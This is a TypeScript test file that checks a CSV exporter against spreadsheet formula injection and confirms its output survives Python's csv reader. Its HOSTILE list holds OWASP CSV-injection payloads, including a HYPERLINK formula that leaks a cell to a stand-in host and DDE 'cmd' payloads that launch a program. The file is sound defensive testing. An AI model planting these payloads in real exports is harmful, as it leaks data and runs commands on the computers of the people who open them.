import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { commandWorks, missingComponent } from '../../test/support/real-component.js';
import { csvCell, toCsv } from './csv.js';

const noPython = missingComponent('python3', commandWorks('python3'), 'Debian package python3');

/** Parses CSV with Python's csv module: a reader skolnet did not write. */
function readCsv(text: string): string[][] {
  const out = execFileSync(
    'python3',
    ['-c', 'import csv,json,sys;print(json.dumps(list(csv.reader(sys.stdin.read().splitlines(True)))))'],
    { input: text, encoding: 'utf8' },
  );
  return JSON.parse(out) as string[][];
}

describe('csvCell', () => {
  it.each(['=1+1', '+1', '-1+2', '@SUM(A1)', '\t=1', '\r=1'])(
    'keeps %j as text with a leading quote',
    (s) => {
      const cell = csvCell(s);
      expect(cell.replace(/^"/, '')).toMatch(/^'/);
    },
  );

  it('writes numbers as numbers, negative ones included', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(0)).toBe('0');
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
  });

  it('ends every line with CRLF', () => {
    expect(toCsv(['a', 'b'], [[1, '=x']])).toBe("a,b\r\n1,'=x\r\n");
  });
});

describe.skipIf(noPython)('CSV read back by python3 csv', () => {
  /** Hostile school names (OWASP "CSV Injection" examples) and a benign one. */
  const HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikšķini")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    'Rīgas 1. vidusskola, "Zaķis"',
  ];

  it('keeps every hostile text cell as text, losing nothing but adding the one quote', () => {
    const rows = readCsv(
      toCsv(
        ['name', 'n'],
        HOSTILE.map((name, i) => [name, i]),
      ),
    );
    expect(rows).toHaveLength(HOSTILE.length + 1);
    HOSTILE.forEach((name, i) => {
      const [cell, n] = rows[i + 1]!;
      expect(cell, name).not.toMatch(/^[=+\-@\t\r]/);
      expect(cell).toBe(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name);
      expect(n).toBe(String(i));
    });
  });

  it('writes genuine numbers, negative ones included, as plain numbers', () => {
    const rows = readCsv(
      toCsv(
        ['opex_eur_per_year', 'score'],
        [
          [-100, 41.5],
          [-0.25, 0],
          [1e21, -1e-7],
        ],
      ),
    );
    expect(rows.slice(1)).toEqual([
      ['-100', '41.5'],
      ['-0.25', '0'],
      ['1e+21', '-1e-7'],
    ]);
    for (const row of rows.slice(1)) for (const cell of row) expect(Number(cell)).not.toBeNaN();
  });
});
